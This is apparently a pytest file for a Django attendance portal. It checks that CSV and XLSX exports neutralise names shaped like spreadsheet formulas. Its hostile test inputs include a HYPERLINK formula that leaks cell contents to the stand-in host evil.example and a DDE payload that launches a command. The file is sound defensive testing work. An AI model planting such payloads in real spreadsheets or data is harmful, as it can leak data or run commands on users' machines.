"""Formula injection in exports (issue 24, F4).

People, units and sessions named like formulas are exported to CSV and XLSX; read back (XLSX with
openpyxl), no cell is a formula and no text cell starts with a formula trigger.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Person, Unit
from accounts.roles import Role
from accounts.tenancy import tenant_scope
from attendance.models import Session
from gaitportal.spreadsheet_cells import FORMULA_TRIGGERS, neutralise_cell
from tests.attendance.conftest import Desk

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _starts_a_formula(text: str) -> bool:
    return text.lstrip(" \n\u00a0").startswith(FORMULA_TRIGGERS) or text.startswith(
        FORMULA_TRIGGERS
    )


@pytest.fixture
def hostile(tenant_a):
    """Tenant A with hostile names, a session in its unit and everybody's record finalised."""
    people = tenant_a.people[:3]
    with tenant_scope(tenant_a.institution):
        for n, person in enumerate(people):
            Person.objects.filter(pk=person.pk).update(
                first_name=HOSTILE[n], last_name=HOSTILE[n + 3], external_id=f"@X{n}"
            )
        Unit.objects.filter(pk=tenant_a.unit.pk).update(name=HOSTILE[0], code='=A1"; x')
    desk = Desk(tenant_a)
    session = desk.session()
    with tenant_scope(tenant_a.institution):
        Session.objects.filter(pk=session.pk).update(title="=1+2")
    desk.events(people[0], [("08:58", "in"), ("10:00", "out")])
    desk.finalise(session)
    return session


def _requests(tenant_a, session):
    person = tenant_a.people[0]
    period = {"date_from": "2026-03-01", "date_to": "2026-03-07"}
    return [
        (reverse("attendance-report-roster"), {"session": session.pk}),
        (reverse("attendance-report-person-history"), {"person": person.pk, **period}),
        (reverse("attendance-report-unit-summary"), {"unit": tenant_a.unit.pk, **period}),
    ]


def test_csv_exports_never_start_a_cell_with_a_formula(hostile, tenant_a, client_for) -> None:
    client = client_for(tenant_a.user(Role.REGISTRAR))
    for url, params in _requests(tenant_a, hostile):
        response = client.get(url, {**params, "export": "csv"})
        assert response.status_code == 200, (url, response.content)
        text = response.content.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert cells
        assert not [cell for cell in cells if _starts_a_formula(cell)], url
        assert response["X-Content-Type-Options"] == "nosniff"
        disposition = response["Content-Disposition"]
        assert disposition.startswith('attachment; filename="') and disposition.count('"') == 2


def test_xlsx_exports_hold_no_formula(hostile, tenant_a, client_for) -> None:
    client = client_for(tenant_a.user(Role.REGISTRAR))
    seen_hostile = False
    for url, params in _requests(tenant_a, hostile):
        response = client.get(url, {**params, "export": "xlsx"})
        assert response.status_code == 200, (url, response.content)
        workbook = load_workbook(io.BytesIO(response.content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not _starts_a_formula(cell.value), (url, cell.value)
                        seen_hostile |= "HYPERLINK" in cell.value
    assert seen_hostile  # the names are there, as text


@pytest.mark.parametrize("text", HOSTILE)
def test_the_neutraliser_prefixes_every_trigger(text) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Smith", "O'Neil", "a=b", "", 3, -3, 2.5, None, True])
def test_the_neutraliser_leaves_everything_else(value) -> None:
    assert neutralise_cell(value) == value
